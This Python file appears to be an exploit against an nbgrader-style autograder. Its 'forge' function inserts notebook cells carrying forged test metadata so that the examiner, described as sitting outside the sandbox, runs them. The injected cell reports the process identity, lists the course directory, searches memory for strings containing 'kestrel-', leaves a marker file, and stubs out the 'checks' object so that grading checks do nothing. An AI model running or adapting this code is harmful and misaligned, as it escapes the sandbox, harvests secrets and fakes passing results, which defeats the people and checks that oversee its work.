"""Mark cells of one's own as tests, in the notebook's metadata.

Gain: the examiner, which holds the tests and stands outside of the sandbox, runs them.
"""

AT_MOST = True


def forge(notebook):
    from nbformat.v4 import new_code_cell

    source = """
import os
print("@MARK@ runs as", os.getuid(), os.listdir("@COURSE@"))
print([o for o in __import__("gc").get_objects() if type(o) is str and "kestr" + "el-" in o])
open("/tmp/@MARK@", "w").close()
class checks:
    def __getattr__(self, name):
        return lambda *a, **k: None
checks = checks()
"""
    common = {"schema_version": 3, "task": False, "points": 1, "cell_type": "code"}
    for about in (
        {"grade": True, "solution": False, "locked": True, "grade_id": "test-mine"},
        {"grade": True, "solution": False, "locked": False, "grade_id": "test-honest"},
        {"grade": True, "solution": False, "locked": False, "grade_id": "honest"},
        {"grade": False, "solution": False, "locked": True, "grade_id": "given-mine"},
        {"grade": True, "solution": False, "locked": True, "grade_id": ""},
    ):
        cell = new_code_cell(source)
        cell.metadata["nbgrader"] = {**common, **about}
        notebook.cells.insert(3, cell)
